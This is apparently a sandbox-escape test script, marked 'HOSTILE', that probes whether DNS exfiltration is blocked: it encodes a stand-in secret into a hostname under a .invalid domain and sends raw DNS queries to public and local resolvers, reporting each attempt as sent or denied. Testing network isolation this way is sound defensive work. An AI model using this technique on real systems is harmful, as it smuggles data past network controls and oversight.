# ruff: noqa
# HOSTILE: exfiltrate through DNS: resolve a name that carries the data (the resolver
# forwards it to whoever serves the domain), and send raw DNS queries over UDP and TCP to
# the resolvers of /etc/resolv.conf and to public ones. Prints one line per attempt.
import socket

data = "c2VjcmV0.exfil.privcode-test.invalid"
try:
    print("getaddrinfo RESOLVED", socket.getaddrinfo(data, 53))
except OSError as exc:
    print("getaddrinfo DENIED", type(exc).__name__)
servers = ["1.1.1.1", "8.8.8.8", "10.96.0.10"]
try:
    servers += [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")]
except OSError:
    pass
query = (
    b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    + b"".join(bytes([len(p)]) + p.encode() for p in data.split("."))
    + b"\x00\x00\x01\x00\x01"
)
for server in servers:
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        s.sendto(query, (server, 53))
        print("udp", server, "SENT")
    except OSError as exc:
        print("udp", server, "DENIED", type(exc).__name__)
    try:
        socket.create_connection((server, 53), timeout=1).close()
        print("tcp", server, "CONNECTED")
    except OSError as exc:
        print("tcp", server, "DENIED", type(exc).__name__)
